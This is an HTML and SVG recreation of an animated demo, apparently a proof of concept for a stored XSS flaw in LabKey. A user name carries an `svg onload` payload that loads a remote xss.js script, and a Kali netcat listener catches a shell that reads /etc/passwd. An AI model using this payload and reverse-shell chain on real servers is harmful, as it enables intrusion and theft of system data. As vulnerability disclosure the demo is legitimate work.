
These frames come from a looping animation (786 by 576 pixels, 6280 ms). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #323337; }
  svg { display: block; width: 786px; height: 576px; }
  text { white-space: pre; }
  .page { font: 14px Roboto, sans-serif; fill: #000; }
  .label { font-size: 13.85px; }
  .button { font: bold 12px Roboto, sans-serif; letter-spacing: .5px; fill: #555; }
  .ui { font: 15px Inter, sans-serif; letter-spacing: .4px; fill: #c3c4c7; }
  .title { font: 500 16px Inter, sans-serif; letter-spacing: .2px; text-anchor: middle; }
  .tab { font: 14.8px Inter, sans-serif; text-anchor: middle; }
  .term { font: 16px "Noto Sans Mono", monospace; letter-spacing: .4px; fill: #e0e0e1; }
  .who { font-weight: bold; fill: #e35d60; }
  .path { fill: #6a9fc8; }
  #menu { font-kerning: none; }
</style>
</head>
<body>
<svg viewBox="0 0 786 576">
  <defs>
    <linearGradient id="blue" x2="0" y2="1">
      <stop stop-color="#4a98e6"/><stop offset="1" stop-color="#2470c8"/>
    </linearGradient>
    <linearGradient id="down" x2="0" y2="1">
      <stop stop-color="#000" stop-opacity=".4"/><stop offset="1" stop-color="#000" stop-opacity="0"/>
    </linearGradient>
    <linearGradient id="up" x2="0" y2="1">
      <stop stop-color="#000" stop-opacity="0"/><stop offset="1" stop-color="#000" stop-opacity=".07"/>
    </linearGradient>
    <g id="check">
      <rect x=".5" y=".5" width="15" height="15" rx="3" fill="url(#blue)" stroke="#2a66a8"/>
      <path d="M3.6 7.700l3.200 3.300 5.600-6.900" fill="none" stroke="#fff" stroke-width="2.500"/>
    </g>
    <path id="close" d="M-3.5-3.5l7 7m0-7l-7 7" stroke="#cfd0d2" stroke-width="2.2"/>
  </defs>

  <!-- web page -->
  <g class="page">
    <rect width="786" height="242" fill="#f7f7f7"/>
    <rect x="15.5" y="-9.5" width="587" height="87" fill="#fff" stroke="#a5a5a5"/>
    <path d="M593 75.500h9M595 73.500h7M597 71.500h5M599 69.500h3" stroke="#999" stroke-dasharray="1 1"/>
    <use href="#check" x="15" y="102"/>
    <use href="#check" x="15" y="126"/>
    <text class="label" x="34.500" y="118">Clone permissions from user:</text>
    <text class="label" x="34.500" y="142">Send notification emails to all new users</text>
    <rect x="214.500" y="101.500" width="302" height="23" fill="#fff" stroke="#a5a5a5"/>
    <text id="letter" x="216" y="117">d</text>
    <rect id="caret" y="104" width="1" height="17"/>
    <g fill="#fafafa" stroke="#8a8a8a">
      <rect x="517.500" y="99.500" width="89" height="26"/>
      <rect x="96.500" y="168.500" width="47" height="26"/>
      <rect x="15.500" y="168.500" width="77" height="26" stroke="#e4572e"/>
    </g>
    <g class="button">
      <text x="525.500" y="117">Permissions</text>
      <text x="104.500" y="186">Done</text>
      <text x="24" y="186" style="fill:#de4a1f">Add Users</text>
    </g>
    <text x="332" y="234" fill="#11629a">Powered by LabKey</text>
    <g id="menu">
      <rect x="214.500" y="125.500" width="302" height="85" fill="#fff" stroke="#a5a5a5"/>
      <rect x="217" y="128" width="297" height="60" fill="#3492d2"/>
      <g fill="#fff">
        <text x="217" y="143">plost&lt;svg</text>
        <text x="217" y="163">onload=jQuery.getScript('http://127.0.0.1</text>
        <text x="217" y="183">/xss.js')&gt; (plostaret@plostaret.com)</text>
      </g>
      <text x="217" y="203">Administrator (drelvin@drelvin.com)</text>
    </g>
  </g>

  <!-- terminal window -->
  <rect y="242" width="786" height="62" fill="#37383c"/>
  <rect id="shadowUp" y="224" width="786" height="18" fill="url(#up)"/>
  <rect id="shadowDown" y="243" width="786" height="9" fill="url(#down)"/>
  <rect y="242" width="786" height="2" fill="#222326"/>
  <rect x="732" y="242" width="54" height="1.500" fill="#a2a2a4"/>
  <text id="title" class="title" x="399" y="265">user@kali: ~</text>
  <g id="dots">
    <circle cx="718" cy="260" r="6.300"/>
    <circle cx="750" cy="260" r="6.300"/>
    <circle cx="782" cy="260" r="6.300"/>
  </g>
  <g class="ui">
    <text x="6" y="294">File</text>
    <text x="48" y="294">Edit</text>
    <text x="94" y="294">View</text>
    <text x="146" y="294">Search</text>
    <text x="213" y="294">Terminal</text>
    <text x="294" y="294">Tabs</text>
    <text x="344" y="294">Help</text>
  </g>
  <rect y="303" width="786" height="41" fill="#2a2b2e"/>
  <rect x="711" y="303" width="75" height="41" fill="#2e2f33"/>
  <rect id="left" x="6" y="303" width="352" height="41"/>
  <rect id="leftLine" x="6" y="342" width="352" height="2" fill="#2eb398"/>
  <rect id="right" x="358" y="303" width="353" height="41"/>
  <rect id="rightLine" x="358" y="342" width="353" height="2" fill="#2eb398"/>
  <path d="M358.500 303v39M711.500 303v40" stroke="#222326"/>
  <text id="leftName" class="tab" x="182" y="329">user@kali: ~</text>
  <text id="rightName" class="tab" x="534" y="329">user@kali: ~</text>
  <use href="#close" x="334" y="323"/>
  <use href="#close" x="687" y="323"/>
  <path d="M733 317h12.500v11h-12.500zM732.500 328.500h13.500M739 319v6M736 322h6" fill="none" stroke="#d0d1d3" stroke-width="1.600"/>
  <path d="M776 321h10l-5 5z" fill="#d0d1d3"/>
  <rect y="344" width="786" height="232" fill="#323337"/>
  <g id="rows" class="term"></g>
  <rect id="block" width="10" height="21"/>

  <!-- pointer -->
  <g id="mouse">
    <path id="arrow" d="M.5-.5v16l3.700-3.500 2.700 6 2.600-1.100-2.600-5.900h5.100z" fill="#111" stroke="#fff"/>
    <g id="beam" fill="none">
      <path d="M-3.500-8.500h2.500l1 1 1-1h2.500M0-7.500v15M-3.500 8.500h2.500l1-1 1 1h2.500" stroke="#fff" stroke-width="3"/>
      <path d="M-3.500-8.500h2.500l1 1 1-1h2.500M0-7.500v15M-3.500 8.500h2.500l1-1 1 1h2.500" stroke="#111" stroke-width="1.300"/>
    </g>
  </g>
  <circle id="ring" r="36" fill="#ff0" fill-opacity=".52"/>
</svg>
<script>
const LOOP = 6280, STEP = 80;
const el = id => document.getElementById(id);
const show = (id, on) => { el(id).style.visibility = on ? "visible" : "hidden"; };
const fill = (id, color) => el(id).setAttribute("fill", color);
const within = (t, a, b) => t >= a && t < b;
const clamp = v => Math.max(0, Math.min(1, v));
const hold = t => Math.floor(t / STEP) * STEP;

const PROMPT = "user@kali";
const SERVER = [
  "[2019/10/15 00:35:14]",
  PROMPT + ":~# python -m SimpleHTTPServer 80",
  "Serving HTTP on 0.0.0.0 port 80 ..."
];
const REQUEST = [
  '127.0.0.1 - - [15/Oct/2019 00:36:40] "GET /xss.js?_=1571114189444 HTTP/1.1" 200',
  " -"
];
const LISTENER = [
  "[2019/10/15 00:35:11]",
  PROMPT + ":~# nc -nvlp 8999",
  "listening on [any] 8999 ...",
  "connect to [127.0.0.1] from (UNKNOWN) [127.0.0.1] 50134"
];
const OUTPUT = [
  "colord:x:125:132:colord colour management daemon,,,:/var/lib/colord:/usr/sbin/n",
  "ologin",
  "saned:x:126:134::/var/lib/saned:/usr/sbin/nologin",
  "speech-dispatcher:x:127:29:Speech Dispatcher,,,:/var/run/speech-dispatcher:/bin",
  "/false",
  "avahi:x:128:135:Avahi mDNS daemon,,,:/var/run/avahi-daemon:/usr/sbin/nologin",
  "pulse:x:129:136:PulseAudio daemon,,,:/var/run/pulse:/usr/sbin/nologin",
  "gluster:x:130:138::/var/lib/glusterd:/usr/sbin/nologin",
  "Debian-gdm:x:131:139:Gnome Display Manager:/var/lib/gdm3:/bin/false",
  "king-phisher:x:132:140::/var/lib/king-phisher:/usr/sbin/nologin",
  "dradis:x:133:141::/var/lib/dradis:/usr/sbin/nologin"
];
const COMMAND = "cat /etc/passwd";
const KEYS = [3400, 3560, 3720, 3800, 4320, 4480, 4720, 4880, 4960,
              5280, 5400, 5480, 5560, 5720, 5960];

// time, x, y
const TRACK = [
  [240, 617, 477], [400, 450, 270], [560, 310, 128], [680, 283, 107],
  [1680, 283, 107], [2000, 260, 219], [2320, 232, 282],
  [2400, 228, 288], [2680, 207.5, 317.5], [LOOP, 207.5, 317.5]
];

function svg(tag, parent, text, cls) {
  const node = document.createElementNS("http://www.w3.org/2000/svg", tag);
  node.textContent = text;
  if (cls) node.setAttribute("class", cls);
  return parent.appendChild(node);
}

let shown = "";
function setRows(lines) {
  const key = lines.join("\n");
  if (key === shown) return;
  shown = key;
  el("rows").textContent = "";
  lines.forEach((line, i) => {
    const row = svg("text", el("rows"), "");
    row.setAttribute("x", -1);
    row.setAttribute("y", 361 + 21 * i);
    if (line.startsWith(PROMPT)) {
      svg("tspan", row, PROMPT, "who");
      svg("tspan", row, ":");
      svg("tspan", row, "~", "path");
      line = line.slice(PROMPT.length + 2);
    }
    svg("tspan", row, line);
  });
}

function setBlock(col, row, solid) {
  const block = el("block"), inset = solid ? 0 : .5;
  block.setAttribute("x", 10 * col - 1 + inset);
  block.setAttribute("y", 345 + 21 * row + inset);
  block.setAttribute("fill", solid ? "#e9e9ea" : "none");
  block.setAttribute("stroke", solid ? "none" : "#e9e9ea");
}

function pointer(t) {
  let i = 1;
  while (i < TRACK.length - 1 && t >= TRACK[i][0]) i++;
  const [t0, x0, y0] = TRACK[i - 1], [t1, x1, y1] = TRACK[i];
  const k = clamp((t - t0) / (t1 - t0));
  return [x0 + (x1 - x0) * k, y0 + (y1 - y0) * k];
}

function drawPage(t) {
  show("letter", t >= 1440);
  show("caret", within(t, 680, 2400));
  el("caret").setAttribute("x", t < 1440 ? 216 : 224);
  show("menu", within(t, 1920, 3320));
  el("menu").style.opacity = clamp((hold(t) - 1840) / 220);
}

function drawWindow(t) {
  const front = t >= 3320, hover = within(t, 2560, 3320);
  show("shadowUp", t >= 3160);
  show("shadowDown", t < 3160);
  fill("title", front ? "#fff" : "#a3a4a7");
  const colors = front ? ["#c8b83e", "#30aa90", "#e35d5f"] : Array(3).fill("#8c8d8f");
  [...el("dots").children].forEach((dot, i) => dot.setAttribute("fill", colors[i]));
  fill("left", front ? "#343539" : hover ? "#2f3034" : "#2a2b2e");
  fill("right", front ? "#2a2b2e" : "#343539");
  fill("leftName", front || hover ? "#d0d1d3" : "#98999c");
  fill("rightName", front ? "#98999c" : "#d0d1d3");
  show("leftLine", front || hover);
  el("leftLine").style.opacity = front ? 1 : .35;
  show("rightLine", !front);
}

function drawTerminal(t) {
  show("block", t < 6120);
  if (t >= 6120) {
    setRows(OUTPUT);
  } else if (t >= 3320) {
    const typed = KEYS.filter(k => k <= t).length;
    setRows([...LISTENER, COMMAND.slice(0, typed)]);
    setBlock(typed, 4, true);
  } else {
    const lines = t < 1920 ? SERVER : [...SERVER, ...REQUEST];
    setRows(lines);
    setBlock(0, lines.length, false);
  }
}

function drawPointer(t) {
  const [x, y] = pointer(hold(t));
  const visible = within(t, 240, 3400);
  const overInput = x > 214 && x < 517 && y > 101 && y < 125;
  const beam = overInput || y > 344;
  el("mouse").setAttribute("transform", `translate(${x} ${y})`);
  show("arrow", visible && !beam);
  show("beam", visible && beam);
  const first = within(t, 1000, 1080);
  show("ring", first || within(t, 2920, 3000));
  el("ring").setAttribute("cx", first ? 283 : 208);
  el("ring").setAttribute("cy", first ? 107 : 318);
}

function frame() {
  const t = performance.now() % LOOP;
  drawPage(t);
  drawWindow(t);
  drawTerminal(t);
  drawPointer(t);
  requestAnimationFrame(frame);
}
frame();
</script>
</body>
</html>
```
